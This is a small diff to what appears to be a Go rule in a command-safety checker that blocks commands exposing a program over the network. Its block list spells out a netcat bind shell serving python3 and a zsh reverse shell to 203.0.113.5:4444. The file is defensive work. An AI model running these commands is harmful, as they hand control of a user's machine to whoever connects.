@@ -24,7 +24,7 @@ var harmProcessExposed = &Rule{
 	What:     "hands a program to whoever connects over the network",
 	Safer:    "run the program locally; if it must serve the network, ask the user and bind it to 127.0.0.1",
 	Unknown:  noUnknownStory,
-	Commands: allCommands, exec: checkProcessExposed,
+	Commands: []string{"*"}, exec: checkProcessExposed,
 	Block: []string{
 		`nc -l -p 9001 -e /usr/bin/python3`,
 		`zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
